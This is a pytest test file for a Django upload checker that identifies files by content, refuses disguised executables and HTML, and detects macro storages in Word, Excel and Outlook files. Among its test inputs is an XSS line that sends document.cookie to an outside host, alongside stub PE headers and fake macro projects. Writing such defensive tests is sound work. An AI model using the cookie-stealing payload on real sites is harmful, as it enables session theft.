"""The upload checker, tested with real files made by real writers, and real files disguised.

files/letter.doc was made once for these tests: a python-docx letter converted by LibreOffice
Writer 7.4 (`soffice --headless --convert-to "doc:MS Word 97"`), because no Python library writes
Word 97-2003 files. The OLE files with macros or other contents are that letter with one entry
of its directory renamed (see rename_ole_entry): no tool here can write a real VBA project.
"""

import contextlib
import functools
import io
import re
import zipfile
from pathlib import Path

import docx
import olefile
import openpyxl
import pytest
import weasyprint
import xlwt
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.test import override_settings
from PIL import Image

from careprog.uploads import (
    DOC,
    DOCUMENT_KINDS,
    DOCX,
    EML,
    JPEG,
    MSG,
    PDF,
    PNG,
    XLS,
    XLSX,
    CheckedFileField,
    check_upload,
    stored_name,
)

FILES = Path(__file__).parent / "files"
MB = 1024 * 1024


@functools.cache
def make_pdf() -> bytes:
    return weasyprint.HTML(string="<h1>Ward A</h1><p>Evidence for standard 3.</p>").write_pdf()


def make_image(format_name: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(out, format_name)
    return out.getvalue()


def make_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Thank you for the care on Ward A.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Ward", "Compliments"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def make_xls() -> bytes:
    workbook = xlwt.Workbook()
    workbook.add_sheet("Budget").write(0, 0, "Ward")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def letter_doc() -> bytes:
    return (FILES / "letter.doc").read_bytes()


def windows_program() -> bytes:
    """The start of a 64-bit Windows program: a DOS header pointing at a PE header."""
    dos_header = b"MZ" + bytes(58) + (64).to_bytes(4, "little")
    return dos_header + b"PE\0\0" + (0x8664).to_bytes(2, "little") + bytes(200)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "Meeting notes")
    return out.getvalue()


def rebuild_zip(original: bytes, *, rename: dict | None = None, add: dict | None = None) -> bytes:
    """Copy a ZIP entry by entry, renaming or replacing some and adding others."""
    rename, add = rename or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as source, zipfile.ZipFile(out, "w") as target:
        for entry in source.namelist():
            if entry not in add:
                target.writestr(rename.get(entry, entry), source.read(entry))
        for entry, data in add.items():
            target.writestr(entry, data)
    return out.getvalue()


NO_ENTRY = 0xFFFFFFFF


def rename_ole_entry(
    data: bytes, old: str, new: str, *, as_storage=False, right=None, child=None
) -> bytes:
    """Rename one entry in an OLE2 file's directory, optionally making it a storage and
    re-pointing its right sibling or first child (entries are linked by their index).

    Each entry is 128 bytes: a 64-byte UTF-16 name, its length, its type, then the indexes of
    its left and right siblings and first child at 68, 72 and 76; bytes 116-127 hold the start
    sector and size of a stream, which a storage does not have.
    """
    needle = old.encode("utf-16-le") + b"\0\0"
    at = data.find(needle)
    while at % 128:
        at = data.find(needle, at + 1)
    entry = bytearray(data[at : at + 128])
    entry[0:64] = new.encode("utf-16-le").ljust(64, b"\0")
    entry[64:66] = ((len(new) + 1) * 2).to_bytes(2, "little")
    if as_storage:
        entry[66] = 1
        entry[116:128] = bytes(12)
    for offset, index in ((72, right), (76, child)):
        if index is not None:
            entry[offset : offset + 4] = index.to_bytes(4, "little")
    return data[:at] + bytes(entry) + data[at + 128 :]


def ole_entry_index(data: bytes, name: str) -> int:
    entries = olefile.OleFileIO(data).direntries
    return next(i for i, entry in enumerate(entries) if entry and entry.name == name)


def make_eml(*, line_ending: str = "\r\n") -> bytes:
    """An email as Thunderbird or Outlook saves it: header lines, an empty line, the body."""
    lines = [
        "Return-Path: <jo.bloggs@example.com>",
        "From: Jo Bloggs <jo.bloggs@example.com>",
        "To: PALS <pals@example.nhs.uk>",
        "Subject: Complaint about my father's care on Ward 7",
        "Date: Tue, 3 Mar 2026 09:14:00 +0000",
        "Message-ID: <20260303091400.1234@example.com>",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="utf-8"',
        "Content-Transfer-Encoding: 8bit",
        "",
        "Dear PALS,",
        "My father waited four hours for pain relief.",
    ]
    return line_ending.join(lines).encode("utf-8")


def make_msg() -> bytes:
    """An Outlook message's compound file: letter.doc with its directory renamed to the streams
    Outlook writes (the property stream, and the subject, body and sender as substg streams)."""
    content = letter_doc()
    for old, new in [
        ("WordDocument", "__substg1.0_0037001F"),
        ("\x01CompObj", "__properties_version1.0"),
        ("1Table", "__substg1.0_1000001F"),
        ("\x01Ole", "__substg1.0_0C1F001F"),
    ]:
        content = rename_ole_entry(content, old, new)
    return content


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(name: str, content: bytes, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content), **kwargs)
    return caught.value


def not_allowed(name: str, what: str) -> str:
    return (
        f"“{name}” is not a PDF, Word, Excel, PNG or JPEG file: its content is {what}. "
        "Files are checked by what is inside them, not by their name."
    )


class TestAcceptedFiles:
    @pytest.mark.parametrize(
        ("make", "name", "kind"),
        [
            (make_pdf, "report.pdf", PDF),
            (make_docx, "letter.docx", DOCX),
            (letter_doc, "letter.doc", DOC),
            (make_xlsx, "budget.xlsx", XLSX),
            (make_xls, "budget.xls", XLS),
            (functools.partial(make_image, "PNG"), "photo.png", PNG),
            (functools.partial(make_image, "JPEG"), "photo.jpg", JPEG),
        ],
    )
    def test_each_allowed_type_is_recognised_by_its_content(self, make, name, kind):
        assert check_upload(upload(name, make())) == kind

    @pytest.mark.parametrize(("make", "kind"), [(make_docx, DOCX), (letter_doc, DOC)])
    def test_an_upload_django_kept_on_disk_is_checked_the_same_way(self, make, kind):
        # Django writes uploads over 2.5 MB to a temporary file rather than keeping them in memory.
        content = make()
        file = TemporaryUploadedFile("big", "application/octet-stream", len(content), None)
        try:
            file.write(content)
            assert check_upload(file) == kind
        finally:
            file.close()

    def test_a_png_named_jpg_is_accepted_as_the_png_it_is(self):
        kind = check_upload(upload("photo.jpg", make_image("PNG"), "image/jpeg"))
        assert (kind.extension, kind.content_type, kind.label) == ("png", "image/png", "PNG image")

    def test_an_animated_png_is_accepted_as_a_png(self):
        out = io.BytesIO()
        first, second = Image.new("RGB", (8, 8), "teal"), Image.new("RGB", (8, 8), "navy")
        first.save(out, "PNG", save_all=True, append_images=[second])
        assert check_upload(upload("waving.png", out.getvalue())) == PNG

    def test_a_pdf_sent_with_no_useful_content_type_is_still_a_pdf(self):
        assert check_upload(upload("report", make_pdf(), "application/octet-stream")) == PDF

    def test_an_excel_95_workbook_whose_stream_is_called_book_is_an_xls(self):
        excel_95 = rename_ole_entry(make_xls(), "Workbook", "Book")
        assert check_upload(upload("old.xls", excel_95)) == XLS

    def test_office_part_names_are_matched_whatever_their_case(self):
        shouting = rebuild_zip(make_docx(), rename={"word/document.xml": "Word/Document.xml"})
        assert check_upload(upload("letter.docx", shouting)) == DOCX


class TestDisguisedFiles:
    def test_a_windows_program_named_pdf_is_refused_even_with_a_pdf_content_type(self):
        with pytest.raises(ValidationError) as caught:
            check_upload(upload("setup.pdf", windows_program(), "application/pdf"))
        assert caught.value.code == "file_type_not_allowed"
        assert caught.value.messages == [
            "“setup.pdf” is not a PDF, Word, Excel, PNG or JPEG file: its content is a Windows "
            "program. Files are checked by what is inside them, not by their name."
        ]

    def test_a_web_page_named_pdf_is_refused_as_html(self):
        page = b"\n<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
        error = refusal("minutes.pdf", page)
        assert error.messages == [not_allowed("minutes.pdf", "a web page (HTML)")]

    def test_plain_text_named_pdf_is_refused_as_plain_text(self):
        error = refusal("notes.pdf", "Ward A: 3 compliments, £20 raised\n".encode("cp1252"))
        assert error.messages == [not_allowed("notes.pdf", "plain text")]

    def test_a_plain_zip_named_docx_is_refused_as_a_zip_archive(self):
        error = refusal("letter.docx", plain_zip())
        assert error.code == "file_type_not_allowed"
        assert error.messages == [not_allowed("letter.docx", "a ZIP archive")]

    def test_an_image_of_another_type_is_refused_by_name(self):
        error = refusal("photo.png", make_image("GIF"))
        assert error.messages == [not_allowed("photo.png", "a GIF image")]

    def test_an_office_file_that_is_neither_word_nor_excel_is_refused(self):
        slides = rename_ole_entry(letter_doc(), "WordDocument", "PowerPoint Document")
        error = refusal("slides.doc", slides)
        assert error.messages == [not_allowed("slides.doc", "a PowerPoint presentation")]

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("letter.docx", make_docx()[:300]),
            ("letter.doc", letter_doc()[:1024]),
        ],
        ids=["zip", "ole"],
    )
    def test_an_incomplete_office_file_is_refused_as_damaged(self, name, content):
        error = refusal(name, content)
        assert error.code == "file_damaged"
        assert error.messages == [
            f"“{name}” could not be opened because it is damaged or incomplete: "
            "save it again and upload the new copy."
        ]


class TestMacros:
    def test_a_word_file_with_a_vba_project_is_refused(self):
        macro_enabled = rebuild_zip(make_docx(), add={"word/vbaProject.bin": b"\xcc\x61" * 64})
        error = refusal("letter.docx", macro_enabled)
        assert error.code == "file_has_macros"
        assert error.messages == [
            "“letter.docx” contains macros, which are not accepted: save it without macros "
            "(as .docx) and upload it again."
        ]

    def test_an_excel_file_with_a_vba_project_is_refused(self):
        macro_enabled = rebuild_zip(make_xlsx(), add={"xl/vbaProject.bin": b"\xcc\x61" * 64})
        assert refusal("budget.xlsx", macro_enabled).messages == [
            "“budget.xlsx” contains macros, which are not accepted: save it without macros "
            "(as .xlsx) and upload it again."
        ]

    def test_a_macro_project_under_another_name_is_caught_by_its_declared_content_type(self):
        original = make_docx()
        with zipfile.ZipFile(io.BytesIO(original)) as archive:
            declared = archive.read("[Content_Types].xml").replace(
                b"</Types>",
                b'<Override PartName="/word/extra.bin" '
                b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        disguised = rebuild_zip(
            original, add={"[Content_Types].xml": declared, "word/extra.bin": b"\xcc\x61" * 64}
        )
        assert refusal("letter.docx", disguised).code == "file_has_macros"

    @pytest.mark.parametrize(
        ("stream", "storage", "safe_extension"),
        [("WordDocument", "Macros", "docx"), ("Workbook", "_VBA_PROJECT_CUR", "xlsx")],
    )
    def test_a_legacy_office_file_with_a_macro_storage_is_refused(
        self, stream, storage, safe_extension
    ):
        content = rename_ole_entry(letter_doc(), "WordDocument", stream)
        content = rename_ole_entry(content, "\x01CompObj", storage, as_storage=True)
        error = refusal("old-file.doc", content)
        assert error.code == "file_has_macros"
        assert f"(as .{safe_extension})" in error.messages[0]

    def test_a_macro_storage_inside_an_embedded_object_is_refused(self):
        # In letter.doc "1Table" has no siblings and hangs to the right of "\x01Ole": move it
        # under "\x01Ole", made into the ObjectPool storage where Word keeps embedded objects.
        letter = letter_doc()
        content = rename_ole_entry(
            letter,
            "\x01Ole",
            "ObjectPool",
            as_storage=True,
            right=NO_ENTRY,
            child=ole_entry_index(letter, "1Table"),
        )
        content = rename_ole_entry(content, "1Table", "_VBA_PROJECT_CUR", as_storage=True)
        with olefile.OleFileIO(content) as ole:
            assert ole.exists("ObjectPool/_VBA_PROJECT_CUR")
        assert refusal("letter.doc", content).code == "file_has_macros"


def not_a_document(name: str, what: str) -> str:
    return (
        f"“{name}” is not a PDF, Word, Excel, email, PNG or JPEG file: its content is {what}. "
        "Files are checked by what is inside them, not by their name."
    )


class TestChosenKinds:
    """A caller may accept other kinds (a case's documents take emails too); evidence does not."""

    @pytest.mark.parametrize(
        ("make", "name", "kind"),
        [
            (make_eml, "complaint.eml", EML),
            (functools.partial(make_eml, line_ending="\n"), "complaint.eml", EML),
            (make_msg, "complaint.msg", MSG),
            (make_pdf, "letter.pdf", PDF),
            (letter_doc, "letter.doc", DOC),
            (make_xlsx, "budget.xlsx", XLSX),
            (functools.partial(make_image, "JPEG"), "scan.jpg", JPEG),
        ],
    )
    def test_document_kinds_accept_emails_and_everything_evidence_accepts(self, make, name, kind):
        assert check_upload(upload(name, make()), kinds=DOCUMENT_KINDS) == kind

    def test_an_email_is_recognised_by_its_headers_whatever_it_is_called(self):
        assert check_upload(upload("scan.pdf", make_eml()), kinds=DOCUMENT_KINDS) == EML

    def test_an_email_saved_with_a_byte_order_mark_is_an_email(self):
        content = b"\xef\xbb\xbf" + make_eml()
        assert check_upload(upload("complaint.eml", content), kinds=DOCUMENT_KINDS) == EML

    def test_an_email_with_headers_longer_than_the_part_read_is_still_an_email(self):
        hops = b"".join(
            b"Received: from relay%d.example.com by mx.example.nhs.uk\r\n" % n for n in range(400)
        )
        assert check_upload(upload("long.eml", hops + make_eml()), kinds=DOCUMENT_KINDS) == EML

    @pytest.mark.parametrize(
        ("make", "what"), [(make_eml, "an email (.eml)"), (make_msg, "an Outlook email message")]
    )
    def test_evidence_still_refuses_emails(self, make, what):
        error = refusal("complaint.eml", make())
        assert error.code == "file_type_not_allowed"
        assert error.messages == [not_allowed("complaint.eml", what)]

    def test_a_windows_program_named_eml_is_refused(self):
        error = refusal("complaint.eml", windows_program(), kinds=DOCUMENT_KINDS)
        assert error.messages == [not_a_document("complaint.eml", "a Windows program")]

    @pytest.mark.parametrize(
        "content",
        [
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
            b"<script>document.location='https://example.com/'+document.cookie</script>",
            b"<html>\nFrom: Jo Bloggs <jo@example.com>\nSubject: hello\n",
        ],
        ids=["page", "script", "page-with-headers-inside"],
    )
    def test_a_web_page_named_eml_is_refused_as_html(self, content):
        error = refusal("complaint.eml", content, kinds=DOCUMENT_KINDS)
        assert error.messages == [not_a_document("complaint.eml", "a web page (HTML)")]

    @pytest.mark.parametrize(
        "content",
        [
            b"Note: call the family back\nThey are happy with the response.\n",
            b"Subject: Ward 7\nThis line is not a header\nFrom: someone\n",
            b"#!/bin/sh\nFrom: x\nSubject: y\n",
        ],
        ids=["one-header", "headers-broken-by-text", "script-first"],
    )
    def test_text_that_only_looks_a_little_like_an_email_is_plain_text(self, content):
        error = refusal("notes.eml", content, kinds=DOCUMENT_KINDS)
        assert error.messages == [not_a_document("notes.eml", "plain text")]

    def test_an_outlook_file_without_its_property_stream_is_not_a_whole_message(self):
        partial = rename_ole_entry(letter_doc(), "WordDocument", "__substg1.0_0037001F")
        error = refusal("complaint.msg", partial, kinds=DOCUMENT_KINDS)
        assert error.messages == [
            not_a_document("complaint.msg", "an Outlook file that is not a whole email message")
        ]

    def test_an_outlook_message_with_an_attachment_holding_macros_is_refused(self):
        # "1Table" hangs to the right of "\x01Ole": move it under "\x01Ole", made into an
        # attachment storage, as an embedded Office file's macro storage.
        message = make_msg()
        content = rename_ole_entry(
            message,
            "__substg1.0_0C1F001F",
            "__attach_version1.0_#00000000",
            as_storage=True,
            right=NO_ENTRY,
            child=ole_entry_index(message, "__substg1.0_1000001F"),
        )
        content = rename_ole_entry(content, "__substg1.0_1000001F", "Macros", as_storage=True)
        error = refusal("complaint.msg", content, kinds=DOCUMENT_KINDS)
        assert error.code == "file_has_macros"
        assert error.messages == [
            "“complaint.msg” has an attachment that contains macros, which are not accepted: "
            "save the attachment without macros and upload it on its own."
        ]

    def test_the_message_lists_only_the_kinds_the_caller_accepts(self):
        error = refusal("photo.png", make_image("GIF"), kinds=(PNG, JPEG))
        assert error.messages[0].startswith("“photo.png” is not a PNG or JPEG file:")

    def test_a_field_for_documents_offers_emails_in_the_file_picker_and_accepts_them(self):
        class DocumentForm(forms.Form):
            file = CheckedFileField(kinds=DOCUMENT_KINDS, max_bytes=20 * MB)

        assert 'accept=".pdf,.doc,.docx,.xls,.xlsx,.eml,.msg,.png,.jpg,.jpeg"' in str(
            DocumentForm()["file"]
        )
        form = DocumentForm(data={}, files={"file": upload("complaint.msg", make_msg())})
        assert form.is_valid(), form.errors
        assert form.cleaned_data["file"].checked_kind == MSG


class ClaimedSize:
    """A file object that reports a size without holding the bytes, and counts its reads."""

    def __init__(self, name: str, *, size: int):
        self.name, self.size, self.reads = name, size, 0

    def read(self, size: int = -1) -> bytes:
        self.reads += 1
        return make_pdf()

    def seek(self, offset: int, whence: int = 0) -> int:
        return 0


class TestSize:
    def test_a_file_of_exactly_the_limit_is_accepted(self):
        png = make_image("PNG")
        assert check_upload(upload("photo.png", png), max_bytes=len(png)) == PNG

    def test_a_file_one_byte_over_the_limit_is_refused(self):
        png = make_image("PNG")
        error = refusal("photo.png", png, max_bytes=len(png) - 1)
        assert error.code == "file_too_large"
        assert error.messages[0].startswith("“photo.png” is ")

    def test_the_limit_comes_from_the_upload_max_bytes_setting(self):
        png = make_image("PNG")
        with override_settings(UPLOAD_MAX_BYTES=len(png) - 1):
            assert refusal("photo.png", png).code == "file_too_large"

    def test_the_message_gives_the_size_and_the_10_mb_default_limit_in_megabytes(self):
        scan = ClaimedSize("scan.pdf", size=13_002_000)
        with pytest.raises(ValidationError) as caught:
            check_upload(scan)
        assert caught.value.messages == [
            "“scan.pdf” is 12.4 MB: each file must be 10 MB or smaller."
        ]

    def test_a_file_just_over_the_limit_is_not_shown_as_the_limit(self):
        with pytest.raises(ValidationError) as caught:
            check_upload(ClaimedSize("scan.pdf", size=10 * MB + 1))
        assert caught.value.messages[0].startswith("“scan.pdf” is 10.1 MB:")

    def test_an_oversized_file_is_refused_without_being_read(self):
        scan = ClaimedSize("scan.pdf", size=11 * MB)
        with pytest.raises(ValidationError):
            check_upload(scan)
        assert scan.reads == 0

    def test_an_empty_file_is_refused_by_name(self):
        error = refusal("notes.pdf", b"")
        assert error.code == "file_empty"
        assert error.messages == ["“notes.pdf” is empty."]


class TestFilePosition:
    @pytest.mark.parametrize(
        ("name", "make"),
        [
            ("photo.png", functools.partial(make_image, "PNG")),
            ("budget.xlsx", make_xlsx),
            ("letter.doc", letter_doc),
            ("setup.pdf", windows_program),
            ("letter.docx", plain_zip),
        ],
    )
    def test_the_file_is_back_at_its_start_after_the_check(self, name, make):
        file = upload(name, make())
        with contextlib.suppress(ValidationError):
            check_upload(file)
        assert file.tell() == 0

    def test_the_check_reads_from_the_start_even_if_the_file_was_partly_read(self):
        file = upload("photo.png", make_image("PNG"))
        file.read(5)
        assert check_upload(file) == PNG


class EvidenceForm(forms.Form):
    evidence = CheckedFileField()
    extra = CheckedFileField(required=False, max_bytes=100)


class TestCheckedFileField:
    def test_an_allowed_file_is_valid_and_carries_its_checked_kind(self):
        form = EvidenceForm(data={}, files={"evidence": upload("report.pdf", make_pdf())})
        assert form.is_valid(), form.errors
        assert form.cleaned_data["evidence"].checked_kind == PDF

    def test_a_refused_file_gives_one_error_at_the_field_naming_the_file(self):
        form = EvidenceForm(data={}, files={"evidence": upload("setup.pdf", windows_program())})
        assert not form.is_valid()
        assert form.errors == {"evidence": [not_allowed("setup.pdf", "a Windows program")]}

    def test_an_empty_file_gets_the_message_that_names_it(self):
        form = EvidenceForm(data={}, files={"evidence": upload("notes.pdf", b"")})
        assert form.errors == {"evidence": ["“notes.pdf” is empty."]}

    def test_the_field_passes_its_own_size_limit_to_the_check(self):
        files = {"evidence": upload("report.pdf", make_pdf()), "extra": upload("p.pdf", make_pdf())}
        form = EvidenceForm(data={}, files=files)
        assert list(form.errors) == ["extra"]
        assert form.errors.as_data()["extra"][0].code == "file_too_large"

    def test_an_optional_field_left_empty_is_valid(self):
        form = EvidenceForm(data={}, files={"evidence": upload("report.pdf", make_pdf())})
        assert form.is_valid()
        assert form.cleaned_data["extra"] is None

    def test_the_file_picker_is_told_which_extensions_to_offer(self):
        assert 'accept=".pdf,.doc,.docx,.xls,.xlsx,.png,.jpg,.jpeg"' in str(
            EvidenceForm()["evidence"]
        )


class TestStoredName:
    def test_the_stored_name_is_random_hex_with_the_detected_extension_not_the_uploaders(self):
        kind = check_upload(upload("holiday photo.jpg", make_image("PNG")))
        name = stored_name(kind)
        assert re.fullmatch(r"[0-9a-f]{32}\.png", name)
        assert "holiday" not in name

    def test_two_stored_names_for_the_same_kind_differ(self):
        assert stored_name(PDF) != stored_name(PDF)
